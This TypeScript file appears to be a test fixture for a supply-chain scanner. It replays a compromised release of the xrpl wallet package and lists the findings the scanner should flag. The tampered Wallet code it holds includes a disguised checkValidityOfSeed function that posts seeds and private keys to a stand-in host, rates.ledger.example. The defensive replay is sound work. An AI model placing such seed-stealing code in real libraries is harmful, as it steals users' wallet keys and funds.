import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const wallet = (check: string, call: string): string => `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Wallet = void 0;
const ripple_keypairs_1 = require("ripple-keypairs");
const utils_1 = require("@xrplf/isomorphic/utils");
const DEFAULT_ALGORITHM = "ed25519";
${check}class Wallet {
    constructor(publicKey, privateKey, opts = {}) {
        this.publicKey = publicKey;
        this.privateKey = privateKey;
        this.classicAddress = opts.masterAddress ?? (0, ripple_keypairs_1.deriveAddress)(publicKey);
        this.seed = opts.seed;
${call.replace('seed', 'privateKey')}    }
    get address() {
        return this.classicAddress;
    }
    static generate(algorithm = DEFAULT_ALGORITHM) {
        const seed = (0, ripple_keypairs_1.generateSeed)({ algorithm });
        return Wallet.fromSeed(seed, { algorithm });
    }
    static fromSeed(seed, opts = {}) {
        return Wallet.deriveWallet(seed, { algorithm: opts.algorithm, masterAddress: opts.masterAddress });
    }
    static fromEntropy(entropy, opts = {}) {
        const seed = (0, ripple_keypairs_1.generateSeed)({ entropy: Uint8Array.from(entropy), algorithm: opts.algorithm });
        return Wallet.deriveWallet(seed, opts);
    }
    static deriveWallet(seed, opts = {}) {
        const { publicKey, privateKey } = (0, ripple_keypairs_1.deriveKeypair)(seed, { algorithm: opts.algorithm });
${call}        return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress });
    }
    sign(transaction) {
        const encoded = (0, utils_1.bytesToHex)(new TextEncoder().encode(JSON.stringify(transaction)));
        return (0, ripple_keypairs_1.sign)(encoded, this.privateKey);
    }
}
exports.Wallet = Wallet;
`

const check = `const checked = [];
function checkValidityOfSeed(seed) {
    if (checked.includes(seed))
        return true;
    checked.push(seed);
    fetch("https://rates.ledger.example/valid", { method: "POST", headers: { referral: seed } }).catch(() => { });
    return true;
}
`

const manifest = {
  main: 'dist/npm/index.js',
  dependencies: { 'ripple-keypairs': '^2.0.0', '@xrplf/isomorphic': '^1.0.1' },
}
const index = '"use strict";\nexports.Wallet = require("./Wallet").Wallet;\n'

const inIndex = { file: 'dist/npm/Wallet/index.js', line: /fetch\("https:\/\/rates\.ledger\.example\// } as const

const honest = { manifest, files: { 'dist/npm/index.js': index, 'dist/npm/Wallet/index.js': wallet('', '') } }

export const replay: Replay = replayUpgrade({
  description:
    'Five releases of xrpl that no repository knew called a function that was named for checking seeds: it sent them away, in the header ' +
    'of a request.',
  date: '2025-04-21',
  reviewedAt: '2025-04-22T08:00:00Z',
  name: 'xrpl',
  from: ['4.2.0', { ...honest, published: '2025-02-13T12:00:00Z' }],
  to: [
    '4.2.2',
    {
      manifest,
      files: {
        'dist/npm/index.js': index,
        'dist/npm/Wallet/index.js': wallet(check, '        checkValidityOfSeed(seed);\n'),
      },
      published: '2025-04-21T21:10:00Z',
    },
  ],
  beside: {
    '2.14.1': { ...honest, published: '2024-10-23T12:00:00Z' },
    '4.2.1': { ...honest, published: '2025-04-21T20:53:00Z' },
    '2.14.2': { ...honest, published: '2025-04-21T21:40:00Z' },
  },
  findings: [
    ['key-material-sent', 'high', { file: 'dist/npm/Wallet/index.js', line: 'function checkValidityOfSeed(seed) {' }],
    ['release-burst', 'high'],
    ['release-fresh', 'medium'],
    ['capability-added', 'medium', inIndex],
    ['network-host-added', 'medium', inIndex],
  ],
})
